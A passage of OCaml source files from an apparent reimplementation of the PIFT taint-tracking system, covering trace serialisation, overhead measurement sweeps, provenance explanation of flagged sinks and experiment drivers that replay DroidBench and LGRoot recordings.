      if not (rd_has rd len) then
        fail (Printf.sprintf "truncated record (%d payload bytes)" len);
      br.br_pos <- rd.Wire.Reader.lo + 1;
      br.br_limit <- rd.Wire.Reader.lo + len;
      let tag = Char.code (Bytes.unsafe_get rd.Wire.Reader.buf rd.Wire.Reader.lo) in
      rd.Wire.Reader.lo <- rd.Wire.Reader.lo + len;
      let item =
        if tag = tag_load || tag = tag_store then begin
          let seq = br_seq br in
          br.br_prev_k <- br.br_prev_k + br_svarint br;
          let pid = br_varint br in
          let r = br_range br in
          Recorded.Item_event
            {
              Event.seq;
              k = br.br_prev_k;
              pid;
              insn = (if tag = tag_load then synth_load else synth_store);
              access = (if tag = tag_load then Event.Load r else Event.Store r);
            }
        end
        else if tag = tag_other then begin
          let seq = br_seq br in
          br.br_prev_k <- br.br_prev_k + br_svarint br;
          let pid = br_varint br in
          Recorded.Item_event
            { Event.seq; k = br.br_prev_k; pid; insn = Insn.Nop;
              access = Event.Other }
        end
        else if tag = tag_source then begin
          let seq = br_seq br in
          let kind = br_kind br in
          let range = br_range br in
          Recorded.Item_marker (seq, Recorded.Source { kind; range })
        end
        else if tag = tag_sink then begin
          let seq = br_seq br in
          let kind = br_kind br in
          let nranges = br_varint br in
          if nranges < 0 || nranges > len then fail "implausible range count";
          let ranges = List.init nranges (fun _ -> br_range br) in
          Recorded.Item_marker (seq, Recorded.Sink { kind; ranges })
        end
        else fail (Printf.sprintf "unknown record tag %d" tag)
      in
      if br.br_pos <> br.br_limit then fail "trailing bytes in record";
      Some item

let iter_channel_binary ic ~on_event ~on_marker =
  let h, br = bin_open ic in
  let rec drain () =
    match bin_next br with
    | None -> ()
    | Some (Recorded.Item_event e) ->
        on_event e;
        drain ()
    | Some (Recorded.Item_marker (seq, m)) ->
        on_marker seq m;
        drain ()
  in
  drain ();
  h

let of_channel_binary ic =
  let trace = Trace.create () in
  let markers = ref [] in
  let h =
    iter_channel_binary ic ~on_event:(Trace.add trace)
      ~on_marker:(fun seq m -> markers := (seq, m) :: !markers)
  in
  {
    Recorded.name = h.h_name;
    trace;
    markers = Array.of_list (List.rev !markers);
    pid = h.h_pid;
    bytecodes = h.h_bytecodes;
  }

(* --- loading with format autodetection ----------------------------------- *)

let detect_channel ic =
  let mlen = String.length binary_magic in
  let fmt =
    if in_channel_length ic < mlen then Text
    else begin
      seek_in ic 0;
      if String.equal (really_input_string ic mlen) binary_magic then Binary
      else Text
    end
  in
  seek_in ic 0;
  fmt

let detect_format path =
  let ic = open_in_bin path in
  Fun.protect ~finally:(fun () -> close_in ic) (fun () -> detect_channel ic)

let load ?profile path =
  let ic = open_in_bin path in
  Fun.protect
    ~finally:(fun () -> close_in ic)
    (fun () ->
      Pift_obs.Profile.span profile "trace_io" (fun () ->
          match detect_channel ic with
          | Binary -> of_channel_binary ic
          | Text -> of_channel ic))

(* --- streaming readers --------------------------------------------------- *)

type reader = {
  r_ic : in_channel;
  r_format : format;
  r_header : header;
  r_next : unit -> Recorded.item option;
  mutable r_closed : bool;
}

let open_reader path =
  let ic = open_in_bin path in
  match
    match detect_channel ic with
    | Binary ->
        let h, br = bin_open ic in
        (Binary, h, fun () -> bin_next br)
    | Text ->
        let h, next = text_open ic in
        (Text, h, next)
  with
  | r_format, r_header, r_next ->
      { r_ic = ic; r_format; r_header; r_next; r_closed = false }
  | exception e ->
      close_in_noerr ic;
      raise e

let read_item r = r.r_next ()
let reader_header r = r.r_header
let reader_format r = r.r_format

let close_reader r =
  if not r.r_closed then begin
    r.r_closed <- true;
    close_in_noerr r.r_ic
  end

let with_reader path f =
  let r = open_reader path in
  Fun.protect ~finally:(fun () -> close_reader r) (fun () -> f r)
