module Range = Pift_util.Range
module Event = Pift_trace.Event
module Trace = Pift_trace.Trace
module Insn = Pift_arm.Insn
module Reg = Pift_arm.Reg

let magic = "PIFT-TRACE 1"

(* Marker kinds are user-controlled strings embedded in a
   space-separated record format.  A kind containing a space used to
   serialize fine and then fail on load — "unrecognised record" for SRC
   (too many fields), a silently truncated kind for SNK (the tail parsed
   as ranges).  Percent-escape the delimiters at write time instead;
   kinds without them round-trip byte-identically, so old traces still
   load. *)
let escape_kind kind =
  let needs_escape = function ' ' | '%' | '\n' | '\r' -> true | _ -> false in
  if String.exists needs_escape kind then begin
    let buf = Buffer.create (String.length kind + 8) in
    String.iter
      (fun c ->
        if needs_escape c then
          Buffer.add_string buf (Printf.sprintf "%%%02X" (Char.code c))
        else Buffer.add_char buf c)
      kind;
    Buffer.contents buf
  end
  else kind

let write_range oc r =
  Printf.fprintf oc " %d %d" (Range.lo r) (Range.length r)

let to_channel (t : Recorded.t) oc =
  Printf.fprintf oc "%s\n" magic;
  Printf.fprintf oc "name %s\n" t.Recorded.name;
  Printf.fprintf oc "pid %d\n" t.Recorded.pid;
  Printf.fprintf oc "bytecodes %d\n" t.Recorded.bytecodes;
  (* Merge events and markers in global-sequence order, markers after the
     event they follow (same order [Recorded.interleave] applies). *)
  let markers = t.Recorded.markers in
  let mi = ref 0 in
  let emit_markers_until seq =
    while !mi < Array.length markers && fst markers.(!mi) <= seq do
      let mseq, marker = markers.(!mi) in
      (match marker with
      | Recorded.Source { kind; range } ->
          Printf.fprintf oc "M %d SRC %s" mseq (escape_kind kind);
          write_range oc range;
          output_char oc '\n'
      | Recorded.Sink { kind; ranges } ->
          Printf.fprintf oc "M %d SNK %s" mseq (escape_kind kind);
          List.iter (write_range oc) ranges;
          output_char oc '\n');
      incr mi
    done
  in
  emit_markers_until 0;
  Trace.iter
    (fun e ->
      (match e.Event.access with
      | Event.Load r ->
          Printf.fprintf oc "L %d %d %d" e.seq e.k e.pid;
          write_range oc r;
          output_char oc '\n'
      | Event.Store r ->
          Printf.fprintf oc "S %d %d %d" e.seq e.k e.pid;
          write_range oc r;
          output_char oc '\n'
      | Event.Other -> Printf.fprintf oc "O %d %d %d\n" e.seq e.k e.pid);
      emit_markers_until e.Event.seq)
    t.Recorded.trace;
  emit_markers_until max_int

let save t path =
  let oc = open_out path in
  Fun.protect ~finally:(fun () -> close_out oc) (fun () -> to_channel t oc)

(* --- parsing ------------------------------------------------------------- *)

let fail_line n msg = failwith (Printf.sprintf "Trace_io: line %d: %s" n msg)

let parse_int n s =
  match int_of_string_opt s with
  | Some v -> v
  | None -> fail_line n ("not an integer: " ^ s)

(* A synthetic instruction for deserialised memory events: serialisation
   keeps only the access, which is all the PIFT analysis consumes. *)
let synth_load = Insn.Ldr (Insn.Word, Reg.R0, Insn.Offset (Reg.R0, Insn.Imm 0))
let synth_store = Insn.Str (Insn.Word, Reg.R0, Insn.Offset (Reg.R0, Insn.Imm 0))

let unescape_kind n s =
  if not (String.contains s '%') then s
  else begin
    let len = String.length s in
    let buf = Buffer.create len in
    let i = ref 0 in
    while !i < len do
      if s.[!i] <> '%' then begin
        Buffer.add_char buf s.[!i];
        incr i
      end
      else begin
        if !i + 2 >= len then fail_line n ("truncated kind escape in: " ^ s);
        (match int_of_string_opt ("0x" ^ String.sub s (!i + 1) 2) with
        | Some code -> Buffer.add_char buf (Char.chr code)
        | None -> fail_line n ("bad kind escape in: " ^ s));
        i := !i + 3
      end
    done;
    Buffer.contents buf
  end

let rec parse_ranges n = function
  | [] -> []
  | [ _ ] -> fail_line n "dangling range component"
  | lo :: len :: rest ->
      Range.of_len (parse_int n lo) (parse_int n len) :: parse_ranges n rest

let of_channel ic =
  let line_no = ref 0 in
  let next () =
    incr line_no;
    input_line ic
  in
  (match next () with
  | l when String.equal l magic -> ()
  | _ -> fail_line !line_no "bad magic"
  | exception End_of_file -> fail_line 1 "empty file");
  let header key =
    match String.split_on_char ' ' (next ()) with
    | k :: rest when String.equal k key -> String.concat " " rest
    | _ -> fail_line !line_no ("expected header " ^ key)
  in
  let name = header "name" in
  let pid = parse_int !line_no (header "pid") in
  let bytecodes = parse_int !line_no (header "bytecodes") in
  let trace = Trace.create () in
  let markers = ref [] in
  (try
     while true do
       let line = next () in
       if not (String.equal line "") then begin
         let n = !line_no in
         match String.split_on_char ' ' line with
         | [ "L"; seq; k; epid; lo; len ] ->
             Trace.add trace
               {
                 Event.seq = parse_int n seq;
                 k = parse_int n k;
                 pid = parse_int n epid;
                 insn = synth_load;
                 access =
                   Event.Load (Range.of_len (parse_int n lo) (parse_int n len));
               }
         | [ "S"; seq; k; epid; lo; len ] ->
             Trace.add trace
               {
                 Event.seq = parse_int n seq;
                 k = parse_int n k;
                 pid = parse_int n epid;
                 insn = synth_store;
                 access =
                   Event.Store
                     (Range.of_len (parse_int n lo) (parse_int n len));
               }
         | [ "O"; seq; k; epid ] ->
             Trace.add trace
               {
                 Event.seq = parse_int n seq;
                 k = parse_int n k;
                 pid = parse_int n epid;
                 insn = Insn.Nop;
                 access = Event.Other;
               }
         | [ "M"; seq; "SRC"; kind; lo; len ] ->
             markers :=
               ( parse_int n seq,
                 Recorded.Source
                   {
                     kind = unescape_kind n kind;
                     range = Range.of_len (parse_int n lo) (parse_int n len);
                   } )
               :: !markers
         | "M" :: seq :: "SNK" :: kind :: rest ->
             markers :=
               ( parse_int n seq,
                 Recorded.Sink
                   {
                     kind = unescape_kind n kind;
                     ranges = parse_ranges n rest;
                   } )
               :: !markers
         | _ -> fail_line n ("unrecognised record: " ^ line)
       end
     done
   with End_of_file -> ());
  {
    Recorded.name;
    trace;
    markers = Array.of_list (List.rev !markers);
    pid;
    bytecodes;
  }

let load path =
  let ic = open_in path in
  Fun.protect ~finally:(fun () -> close_in ic) (fun () -> of_channel ic)
