module Policy = Pift_core.Policy
module Tracker = Pift_core.Tracker
module Series = Pift_util.Series

type point = {
  ni : int;
  nt : int;
  untaint : bool;
  max_tainted_bytes : int;
  max_ranges : int;
  taint_ops : int;
  untaint_ops : int;
}

let measure ?backend ?(untaint = true) recorded ~ni ~nt =
  let policy = Policy.make ~untaint ~ni ~nt () in
  let replay = Recorded.replay ?backend ~policy recorded in
  let s = replay.Recorded.stats in
  {
    ni;
    nt;
    untaint;
    max_tainted_bytes = s.Tracker.max_tainted_bytes;
    max_ranges = s.Tracker.max_ranges;
    taint_ops = s.Tracker.taint_ops;
    untaint_ops = s.Tracker.untaint_ops;
  }

let default_nis = List.init 20 (fun i -> i + 1)
let default_nts = List.init 10 (fun i -> i + 1)

(* One grid point per work item; the recording is shared read-only, each
   measure builds its own tracker, so cells are independent.  Results
   come back in input order — the parallel grid is list-equal to the
   serial one. *)
(* Wrap one measurement in a named span and sample its peak footprint on
   the worker's ring, when tracing is on.  Names are built per point —
   off the hot path. *)
let traced_measure rings ~worker ~name ?backend ?untaint recorded ~ni ~nt =
  if worker >= Array.length rings then
    measure ?backend ?untaint recorded ~ni ~nt
  else begin
    let r = rings.(worker) in
    Pift_obs.Flight.begin_ r name;
    let p = measure ?backend ?untaint recorded ~ni ~nt in
    Pift_obs.Flight.sample r "max_tainted_bytes"
      (float_of_int p.max_tainted_bytes);
    Pift_obs.Flight.sample r "max_ranges" (float_of_int p.max_ranges);
    Pift_obs.Flight.end_ r name;
    p
  end

let grid ?backend ?(nis = default_nis) ?(nts = default_nts) ?(rings = [||])
    ?(jobs = 1) recorded =
  let points =
    Array.of_list
      (List.concat_map (fun ni -> List.map (fun nt -> (ni, nt)) nts) nis)
  in
  Pift_par.Pool.with_pool ~jobs ~rings (fun pool ->
      Array.to_list
        (Pift_par.Pool.map_slots pool
           ~f:(fun ~worker _ (ni, nt) ->
             let name = Printf.sprintf "cell(%d,%d)" ni nt in
             traced_measure rings ~worker ~name ?backend recorded ~ni ~nt)
           points))

let series ?backend recorded ~ni ~nt =
  let policy = Policy.make ~ni ~nt () in
  let replay = Recorded.replay ?backend ~policy recorded in
  ( Series.downsample replay.Recorded.bytes_series 72,
    Series.downsample replay.Recorded.ops_series 72 )

let untaint_effect ?backend ?(rings = [||]) ?(jobs = 1) recorded ~nis ~nt =
  Pift_par.Pool.with_pool ~jobs ~rings (fun pool ->
      Array.to_list
        (Pift_par.Pool.map_slots pool
           ~f:(fun ~worker _ ni ->
             ( ni,
               traced_measure rings ~worker
                 ~name:(Printf.sprintf "untaint-on(%d,%d)" ni nt)
                 ?backend ~untaint:true recorded ~ni ~nt,
               traced_measure rings ~worker
                 ~name:(Printf.sprintf "untaint-off(%d,%d)" ni nt)
                 ?backend ~untaint:false recorded ~ni ~nt ))
           (Array.of_list nis)))

let render_grid ~title ~metric points ppf () =
  let nis = List.sort_uniq Int.compare (List.map (fun p -> p.ni) points) in
  let nts = List.sort_uniq Int.compare (List.map (fun p -> p.nt) points) in
  (* One pass to index the points: List.find per heatmap cell made the
     render O(cells^2). *)
  let index = Hashtbl.create (List.length points) in
  List.iter (fun p -> Hashtbl.replace index (p.ni, p.nt) p) points;
  let find ni nt =
    match Hashtbl.find_opt index (ni, nt) with
    | Some p -> p
    | None -> invalid_arg "Overhead.render_grid: (ni, nt) not in the grid"
  in
  Pift_util.Textplot.heatmap ~title ~row_label:"NT" ~col_label:"NI" ~rows:nts
    ~cols:nis
    (fun ~row ~col -> float_of_int (metric (find col row)))
    ppf ()

let render_series ~title ~log_scale curves ppf () =
  Pift_util.Textplot.series ~log_scale ~title curves ppf ();
  (* Numeric companion table: each curve sampled at ~8 common points. *)
  let tmax =
    List.fold_left
      (fun acc (_, pts) ->
        List.fold_left (fun acc (t, _) -> max acc t) acc pts)
      1 curves
  in
  let samples = List.init 8 (fun i -> tmax * (i + 1) / 8) in
  Format.fprintf ppf "@[<v>%10s" "t";
  List.iter (fun t -> Format.fprintf ppf "%10d" t) samples;
  Format.fprintf ppf "@,";
  let value_at pts t =
    List.fold_left (fun acc (t', v) -> if t' <= t then v else acc) 0 pts
  in
  List.iter
    (fun (label, pts) ->
      Format.fprintf ppf "%10s" label;
      List.iter (fun t -> Format.fprintf ppf "%10d" (value_at pts t)) samples;
      Format.fprintf ppf "@,")
    curves;
  Format.fprintf ppf "@]@."
