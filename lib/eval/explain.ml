module Range = Pift_util.Range
module Policy = Pift_core.Policy
module Provenance = Pift_core.Provenance
module Graph = Provenance.Graph

type hop = {
  store_seq : int;
  stored : Range.t;
  load_seq : int;
  loaded : Range.t;
}

type flow = {
  sink_kind : string;
  sink_range : Range.t;
  hops : hop list;
  source : Range.t option;
}

type src = { src_kind : string; src_seq : int; src_range : Range.t }

(* The shared label-carrying replay: one Provenance engine (Algorithm 1
   per label, union equal to the plain tracker state) whose propagation
   hook records, per in-window store, the opening load and the window's
   label set.  Both the single-chain [explain] walk and the [flow_graph]
   builder are derived from its output. *)
let provenance_replay ~policy (t : Recorded.t) =
  let prov = Provenance.create ~policy () in
  let props = ref [] (* newest first *) in
  Provenance.set_on_propagate prov (fun p -> props := p :: !props);
  let pid = t.Recorded.pid in
  let sources = ref [] (* newest first *) in
  let flagged = ref [] in
  let checks = ref 0 in
  let on_marker seq = function
    | Recorded.Source { kind; range } ->
        sources := { src_kind = kind; src_seq = seq; src_range = range }
          :: !sources;
        Provenance.taint_source prov ~pid ~label:kind range
    | Recorded.Sink { kind; ranges } ->
        incr checks;
        let check = !checks in
        List.iter
          (fun r ->
            (* non-empty labels iff the plain tracker flags the range
               (the Provenance union invariant) *)
            let labels = Provenance.labels_of prov ~pid r in
            if labels <> [] then
              flagged := (check, kind, r, seq, labels) :: !flagged)
          ranges
  in
  let markers = t.Recorded.markers in
  let mi = ref 0 in
  let apply_until seq =
    while !mi < Array.length markers && fst markers.(!mi) <= seq do
      on_marker (fst markers.(!mi)) (snd markers.(!mi));
      incr mi
    done
  in
  apply_until 0;
  Pift_trace.Trace.iter
    (fun e ->
      Provenance.observe prov e;
      apply_until e.Pift_trace.Event.seq)
    t.Recorded.trace;
  apply_until max_int;
  (!props, !sources, List.rev !flagged)

let max_hops = 64

let explain ?(policy = Policy.default) t =
  let props, srcs, flagged = provenance_replay ~policy t in
  let taints =
    List.map
      (fun (p : Provenance.propagation) ->
        { store_seq = p.Provenance.p_store_seq; stored = p.Provenance.p_stored;
          load_seq = p.Provenance.p_load_seq; loaded = p.Provenance.p_loaded })
      props
  in
  let sources = List.map (fun s -> s.src_range) srcs in
  let source_for r = List.find_opt (fun s -> Range.overlaps s r) sources in
  let chain_for sink_range sink_seq =
    let rec walk target time acc n =
      if n >= max_hops then (List.rev acc, source_for target)
      else
        match source_for target with
        | Some src -> (List.rev acc, Some src)
        | None -> (
            (* the most recent propagation into [target] before [time];
               [taints] is newest-first *)
            match
              List.find_opt
                (fun h ->
                  h.store_seq <= time && Range.overlaps h.stored target)
                taints
            with
            | Some h -> walk h.loaded h.load_seq (h :: acc) (n + 1)
            | None -> (List.rev acc, None))
    in
    walk sink_range sink_seq [] 0
  in
  List.map
    (fun (_, sink_kind, sink_range, seq, _) ->
      let hops, source = chain_for sink_range seq in
      { sink_kind; sink_range; hops; source })
    flagged

let pp_flow ppf f =
  Format.fprintf ppf "@[<v>sink %s flagged at %a@," f.sink_kind Range.pp
    f.sink_range;
  List.iter
    (fun h ->
      Format.fprintf ppf
        "  <- store @%d tainted %a (window opened by load @%d of %a)@,"
        h.store_seq Range.pp h.stored h.load_seq Range.pp h.loaded)
    f.hops;
  (match f.source with
  | Some s -> Format.fprintf ppf "  <- source registration %a@," Range.pp s
  | None -> Format.fprintf ppf "  <- (chain does not reach a source)@,");
  Format.fprintf ppf "@]"

(* --- flow graphs -------------------------------------------------------- *)

type path = { p_origin : string; p_nodes : Graph.node list }

type sink_flow = {
  sf_check : int;
  sf_kind : string;
  sf_range : Range.t;
  sf_seq : int;
  sf_origins : string list;
  sf_paths : path list;
}

(* Per-origin backward walk.  At [target]/[time], the origin's taint
   came either from a source registration of that kind overlapping the
   target, or from the most recent recorded propagation whose stored
   range overlaps it and whose window carried the origin — recursing on
   that hop's loaded range at its load time.  The hop's store strictly
   follows its opening load, so the anchor sequence number decreases on
   every step and the walk terminates without a hop cap.  By the
   Provenance union invariant one of the two cases always applies, so
   every flagged sink reaches a source. *)
let flow_graph ?(policy = Policy.default) (t : Recorded.t) =
  let props, sources, flagged = provenance_replay ~policy t in
  let g = Graph.create () in
  let pid = t.Recorded.pid in
  let source_for ~origin ~time target =
    List.find_opt
      (fun s ->
        s.src_seq <= time
        && String.equal s.src_kind origin
        && Range.overlaps s.src_range target)
      sources
  in
  let hop_for ~origin ~time target =
    List.find_opt
      (fun (p : Provenance.propagation) ->
        p.Provenance.p_store_seq <= time
        && Range.overlaps p.Provenance.p_stored target
        && List.mem origin p.Provenance.p_labels)
      props
  in
  (* Returns the chain of nodes (source-first) whose last node produced
     the taint overlapping [target] at [time]. *)
  let rec walk ~origin target time =
    match source_for ~origin ~time target with
    | Some s ->
        Some
          [
            Graph.node g ~kind:(Graph.N_source origin) ~pid ~range:s.src_range
              ~seq:s.src_seq;
          ]
    | None -> (
        match hop_for ~origin ~time target with
        | None -> None
        | Some h ->
            let store_n =
              Graph.node g ~kind:Graph.N_store ~pid
                ~range:h.Provenance.p_stored ~seq:h.Provenance.p_store_seq
            in
            let load_n =
              Graph.node g ~kind:Graph.N_load ~pid
                ~range:h.Provenance.p_loaded ~seq:h.Provenance.p_load_seq
            in
            Graph.edge g ~src:load_n ~dst:store_n
              ~seq:h.Provenance.p_store_seq;
            (match
               walk ~origin h.Provenance.p_loaded h.Provenance.p_load_seq
             with
            | Some chain ->
                (match List.rev chain with
                | last :: _ ->
                    Graph.edge g ~src:last ~dst:load_n
                      ~seq:h.Provenance.p_load_seq
                | [] -> ());
                Some (chain @ [ load_n; store_n ])
            | None -> Some [ load_n; store_n ]))
  in
  let sinks =
    List.map
      (fun (check, kind, r, seq, labels) ->
        let sink_n = Graph.node g ~kind:(Graph.N_sink kind) ~pid ~range:r ~seq in
        let paths =
          List.map
            (fun origin ->
              match walk ~origin r seq with
              | Some chain ->
                  (match List.rev chain with
                  | last :: _ -> Graph.edge g ~src:last ~dst:sink_n ~seq
                  | [] -> ());
                  { p_origin = origin; p_nodes = chain @ [ sink_n ] }
              | None -> { p_origin = origin; p_nodes = [ sink_n ] })
            labels
        in
        {
          sf_check = check;
          sf_kind = kind;
          sf_range = r;
          sf_seq = seq;
          sf_origins = labels;
          sf_paths = paths;
        })
      flagged
  in
  (g, sinks)

let summaries sinks =
  List.map
    (fun sf ->
      {
        Graph.ss_kind = sf.sf_kind;
        ss_seq = sf.sf_seq;
        ss_origins = sf.sf_origins;
        ss_nodes =
          List.fold_left
            (fun acc p -> max acc (List.length p.p_nodes))
            0 sf.sf_paths;
      })
    sinks

let node_to_string (n : Graph.node) =
  Printf.sprintf "%s %s @%d"
    (Graph.kind_label n.Graph.kind)
    (Range.to_string n.Graph.range)
    n.Graph.seq

let pp_sink_flow ppf sf =
  Format.fprintf ppf "@[<v>sink %s (check #%d) flagged at %a @%d@,"
    sf.sf_kind sf.sf_check Range.pp sf.sf_range sf.sf_seq;
  List.iter
    (fun p ->
      Format.fprintf ppf "  %s: %s@," p.p_origin
        (String.concat " -> " (List.map node_to_string p.p_nodes)))
    sf.sf_paths;
  Format.fprintf ppf "@]"
