(** Runtime-overhead characterisation on the LGRoot trace — Figs. 14–19.

    All functions replay a single recording, so the whole §5.2 study runs
    off one execution of the malware. *)

type point = {
  ni : int;
  nt : int;
  untaint : bool;
  max_tainted_bytes : int;  (** Fig. 14 / 15 / 18 metric *)
  max_ranges : int;  (** Fig. 17 / 19 metric *)
  taint_ops : int;
  untaint_ops : int;  (** Fig. 16 metric: taint + untaint over time *)
}

val measure :
  ?backend:Pift_core.Store.backend ->
  ?untaint:bool -> Recorded.t -> ni:int -> nt:int -> point
(** [backend] selects the taint-store representation of the replay;
    points are identical whichever exact backend runs. *)

val grid :
  ?backend:Pift_core.Store.backend ->
  ?nis:int list ->
  ?nts:int list ->
  ?rings:Pift_obs.Flight.t array ->
  ?jobs:int ->
  Recorded.t ->
  point list
(** Fig. 14 and Fig. 17 sweeps (defaults NI=1..20 × NT=1..10).  [jobs]
    (default 1) replays grid points on a [Pift_par] domain pool; the
    point list is identical for every [jobs] value.  [rings] (one per
    worker slot) stamps a ["cell(ni,nt)"] span plus
    ["max_tainted_bytes"]/["max_ranges"] samples per point. *)

val series :
  ?backend:Pift_core.Store.backend ->
  Recorded.t ->
  ni:int ->
  nt:int ->
  (int * int) list * (int * int) list
(** Fig. 15 and Fig. 16: (tainted-bytes-over-time,
    cumulative-operations-over-time) samples for one parameter pair. *)

val untaint_effect :
  ?backend:Pift_core.Store.backend ->
  ?rings:Pift_obs.Flight.t array ->
  ?jobs:int ->
  Recorded.t ->
  nis:int list ->
  nt:int ->
  (int * point * point) list
(** Fig. 18/19: per NI, the (untainting-on, untainting-off) pair.
    [jobs] and [rings] as in {!grid} (span names
    ["untaint-on(ni,nt)"]/["untaint-off(ni,nt)"]). *)

val render_grid :
  title:string ->
  metric:(point -> int) ->
  point list ->
  Format.formatter ->
  unit ->
  unit

val render_series :
  title:string ->
  log_scale:bool ->
  (string * (int * int) list) list ->
  Format.formatter ->
  unit ->
  unit
