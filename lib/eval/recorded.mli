(** Record-once / replay-many harness — the paper's offline methodology:
    "the PIFT Native just prints out the address ranges of source and
    sink, which then are fed into the PIFT analysis code along with the
    CPU instruction stream trace obtained by gem5" (§5).

    An application is executed once; its full instruction trace plus the
    time-stamped source registrations and sink checks are kept.  Any
    number of tracker configurations (the NI×NT sweep needs 200) can then
    be replayed against the recording without re-running the program. *)

type marker =
  | Source of { kind : string; range : Pift_util.Range.t }
  | Sink of { kind : string; ranges : Pift_util.Range.t list }

type t = {
  name : string;
  trace : Pift_trace.Trace.t;
  markers : (int * marker) array;
      (** (global seq at occurrence, marker), in order *)
  pid : int;
  bytecodes : int;
}

val record :
  ?mode:Pift_dalvik.Vm.mode -> ?metrics:Pift_obs.Registry.t ->
  ?flight:Pift_obs.Flight.t -> ?profile:Pift_obs.Profile.t ->
  Pift_workloads.App.t -> t
(** Execute the app and capture everything.  An uncaught application
    exception terminates the run but still yields the recording.
    [mode] selects interpreter or JIT execution (default interpreter);
    [metrics] instruments the CPU and VM of the recording run; [flight]
    additionally stamps ["source"]/["sink-check"] instants as the
    Manager fires and passes through to the VM's ["vm-run"] span;
    [profile] attributes the run to a ["record"] region with the VM's
    ["vm"]/["cpu"] regions nested beneath it. *)

type item =
  | Item_event of Pift_trace.Event.t
  | Item_marker of int * marker  (** (global seq at occurrence, marker) *)
(** One element of a recording viewed as a flat stream — the unit the
    service engine ingests and {!Pift_eval.Trace_io} streams off disk. *)

val items : t -> unit -> item option
(** Pull stream over the recording in replay order: markers surface
    after the last event at-or-before their timestamp, exactly where
    {!replay} applies them and where the trace writers serialize them.
    [None] once exhausted.  Feeding the items of a recording to a
    tracker one at a time is equivalent to {!replay} — the
    interleaving-aware path multi-tenant ingestion is built on. *)

type verdict = { kind : string; flagged : bool }

type origin_verdict = {
  ov_kind : string;
  ov_flagged : bool;  (** the same flag as the plain verdict *)
  ov_origins : string list;
      (** source kinds overlapping the checked ranges at check time,
          sorted *)
}
(** One sink check with its origin set, captured at the moment of the
    check (later untainting cannot erase it). *)

type replay = {
  verdicts : verdict list;  (** in sink-check order *)
  flagged : bool;  (** any sink check came back tainted *)
  stats : Pift_core.Tracker.stats;
  bytes_series : Pift_util.Series.t;
  ops_series : Pift_util.Series.t;
  origins : origin_verdict list;
      (** in sink-check order; [[]] unless replayed [~with_origins] *)
}

val replay :
  ?backend:Pift_core.Store.backend -> ?store:Pift_core.Store.t ->
  ?metrics:Pift_obs.Registry.t -> ?flight:Pift_obs.Flight.t ->
  ?telemetry:Pift_obs.Telemetry.t -> ?profile:Pift_obs.Profile.t ->
  ?with_origins:bool ->
  policy:Pift_core.Policy.t -> t -> replay
(** Run Algorithm 1 over the recording.  [backend] (default
    [Functional]) picks the taint-store representation when no explicit
    [store] is given; exact backends are interchangeable, so verdicts
    and stats are identical whichever one runs.  With [metrics], the
    tracker and the taint store are instrumented ([pift_tracker_*],
    [pift_store_*]); [flight] is handed to the tracker for fine-grained
    event/counter stamps; verdicts and {!Pift_core.Tracker.stats} are
    unaffected.  [telemetry] is handed to the tracker, which bumps the
    snapshot cadence per event and binds the
    ["tainted_bytes"]/["ranges"]/["window_used"] sources; [profile]
    wraps the whole replay in a ["replay"] region with the tracker's
    ["tracker"]/["store"] regions nested beneath it.  Neither changes
    verdicts, stats, series, or stdout.  [with_origins] (default off)
    threads a
    {!Pift_core.Provenance} sidecar (same policy and backend) through
    the tracker and fills [origins]; verdicts, stats and series are
    byte-identical with it on or off. *)

type dift_replay = {
  dift_verdicts : verdict list;
  dift_flagged : bool;
  propagations : int;
  dift_origins : origin_verdict list;
      (** exact ground-truth origin sets; [[]] unless [~with_origins] *)
}

val replay_dift :
  ?backend:Pift_core.Store.backend -> ?with_origins:bool -> t -> dift_replay
(** Full register-level DIFT over the same recording (ground truth);
    [backend] selects the shadow-memory representation only.
    [with_origins] mirrors every propagation over exact per-source
    origin sets ({!Pift_baseline.Full_dift}) and fills [dift_origins]. *)

type provenance_verdict = { pv_kind : string; leaked : string list }
(** One sink check: which source labels reached it. *)

val replay_provenance :
  policy:Pift_core.Policy.t -> t -> provenance_verdict list
(** Label-carrying replay ({!Pift_core.Provenance}): each sink verdict
    lists the sources whose data reached it. *)
