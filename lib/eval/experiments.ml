module Policy = Pift_core.Policy
module Tracker = Pift_core.Tracker
module Storage = Pift_core.Storage
module Store = Pift_core.Store
module Hw_model = Pift_core.Hw_model
module Trace = Pift_trace.Trace
module App = Pift_workloads.App
module Droidbench = Pift_workloads.Droidbench
module Malware = Pift_workloads.Malware

let lgroot_recording =
  let memo = lazy (Recorded.record Malware.lgroot) in
  fun () -> Lazy.force memo

let header ppf id = Format.fprintf ppf "@.######## %s ########@.@." id

(* --- Trace statistics -------------------------------------------------- *)

let fig2 ppf =
  let stats = Tracestats.analyse (lgroot_recording ()) in
  let r = lgroot_recording () in
  Format.fprintf ppf "trace: %d instructions, %d loads, %d stores@."
    (Trace.length r.Recorded.trace)
    (Trace.loads r.Recorded.trace)
    (Trace.stores r.Recorded.trace);
  Tracestats.render_fig2 stats ppf ()

let fig12 ppf =
  Tracestats.render_fig12 (Tracestats.analyse (lgroot_recording ())) ppf ()

let fig13 ppf =
  Tracestats.render_fig13 (Tracestats.analyse (lgroot_recording ())) ppf ()

(* --- Static analyses --------------------------------------------------- *)

let table1 ppf = Table1.render (Table1.measure_all ()) ppf ()

let fig10 ppf =
  Fig10.render
    ~title:
      "Fig. 10a — top-30 bytecodes, applications corpus (calibrated \
       synthetic)"
    (Fig10.applications ()) ppf ();
  Fig10.render
    ~title:
      "Fig. 10b — top-30 bytecodes, system-library corpus (calibrated \
       synthetic)"
    (Fig10.system_libraries ()) ppf ();
  Fig10.render ~title:"(extra) top-30 bytecodes of this repo's own suite"
    (Fig10.droidbench_suite ()) ppf ()

(* --- Accuracy ----------------------------------------------------------- *)

let fig11 ?backend ?rings ?on_cell ?(jobs = 1) ppf =
  let sweep =
    Accuracy.sweep ?backend ?rings ?on_cell ~jobs Droidbench.subset48
  in
  Accuracy.render sweep ppf ();
  let report (ni, nt) =
    let c = Accuracy.cell sweep ~ni ~nt in
    Format.fprintf ppf
      "at (NI=%d, NT=%d): accuracy %.1f%%, FP %.0f%%, FN %.0f%% (tp=%d fp=%d \
       tn=%d fn=%d)@."
      ni nt
      (100. *. Accuracy.accuracy c)
      (100. *. Accuracy.fp_rate c)
      (100. *. Accuracy.fn_rate c)
      c.Accuracy.tp c.Accuracy.fp c.Accuracy.tn c.Accuracy.fn
  in
  List.iter report [ (13, 3); (18, 3); (3, 2) ];
  let missed =
    Accuracy.misclassified ?backend ~policy:Policy.default Droidbench.all
  in
  Format.fprintf ppf "misclassified at %s over all 57 apps: %s@."
    (Policy.to_string Policy.default)
    (if missed = [] then "none"
     else
       String.concat ", "
